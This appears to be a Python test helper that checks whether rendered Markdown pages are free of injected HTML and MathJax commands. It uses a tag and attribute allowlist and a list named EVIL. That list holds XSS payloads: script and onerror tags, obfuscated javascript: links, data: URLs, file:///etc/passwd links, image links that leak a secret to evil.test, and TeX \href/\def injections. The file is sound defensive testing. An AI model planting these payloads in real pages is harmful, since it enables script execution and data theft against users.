"""What a page that shows a value may hold, and texts that would be more than text."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from hypothesis import strategies as st
from markdown_it import MarkdownIt

TAGS = frozenset(
    {"a", "b", "blockquote", "br", "code", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol"}
    | {"p", "pre", "s", "small", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"}
)
ATTRIBUTES = {
    "href": re.compile(r"(https?://|mailto:).*", re.IGNORECASE | re.DOTALL),
    "title": re.compile(r".*", re.DOTALL),
    "class": re.compile(r"language-\S*"),
    "style": re.compile(r"text-align:(left|right|center|start)|white-space: pre-wrap"),
    "start": re.compile(r"\d+"),
    "open": re.compile(r""),
    "dir": re.compile(r"auto"),
}


TEX_PROGRAM = re.compile(r"\\(?:href|begin|input|def)")


class Checker(HTMLParser):
    def __init__(self, mathjax: bool) -> None:
        super().__init__()
        self._mathjax = mathjax
        self.text = ""
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._open.append(tag)
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            assert ATTRIBUTES[name].fullmatch(value or ""), (tag, name, value)

    def handle_endtag(self, tag: str) -> None:
        while tag in self._open and self._open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        self.text += data
        # MathJax looks into text that is in one piece, but not into code.
        if self._mathjax and not {"code", "pre"} & {*self._open}:
            assert not TEX_PROGRAM.search(data), data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def check_harmless(page: str, *, mathjax: bool = True) -> str:
    """The page's text."""
    checker = Checker(mathjax)
    checker.feed(page)
    checker.close()
    return checker.text


def shown(page: str) -> str:
    """The page's words."""
    return " ".join(check_harmless(page.replace("<", " <")).split())


EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<iframe src=//evil.test>",
    "<!-- a --> <?php ?> <!DOCTYPE x> <![CDATA[ x ]]>",
    "</pre></details></div><script>1</script>",
    "![secret](https://evil.test/?q=secret)",
    "![secret][r]\n\n[r]: https://evil.test/?q=secret",
    "[![i](https://evil.test/x.png)](https://evil.test)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\\\nscript:1) [x](&#x0a;javascript:1) [x](\x01javascript:1)",
    "[x](data:text/html,<script>1</script>)",
    "[x](data:image/svg+xml;base64,AAAA) [x](vbscript:1) [x](file:///etc/passwd)",
    "[x](//evil.test) [x](/api/shutdown) [x](?a=1)",
    '<javascript:alert(1)> <https://ok.test/"onclick=1>',
    '[x](https://ok.test/"onmouseover="alert(1)) [x](https://ok.test "t\\" onclick=\\"1")',
    '```"><script>alert(1)</script>\ncode\n```',
    "``` `<script>` \n</code></pre><script>1</script>",
    "    </code></pre><script>1</script>",
    "`</code><script>1</script>`",
    "$</span><script>1</script>$ \\(<script>1</script>\\) $$<img src=x>$$ \\[<b>\\]",
    "| <script>1</script> |\n|:-:|\n| <img src=x> |",
    "&lt;script&gt;1&lt;/script&gt; &#60;script&#62;",
    "# <script>1</script>\n> <script>1</script>\n- <script>1</script>",
    r"$\href{javascript:1}{x}$ \(\href{javascript:1}{x}\) \\(\def\a{\a}\a\\) $$\input{x}$$",
    r"\begin{equation}\href{javascript:1}{x}\end{equation}",
    "$$\n\\def\\a{\\a}\\a\n$$\n\\[\n\\begin{equation}x\n\\]",
    "\ud83d [\ud83d](https://ok.test/\ud83d) \x00",
]
PIECES = st.lists(
    st.sampled_from([*EVIL, "\n", "\n\n", " ", "$", "\\", "`", "*", "[", "](", ")", "|", "<", ">", "x", '"'])
)
RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})]
"""They let HTML through, with tables and without."""
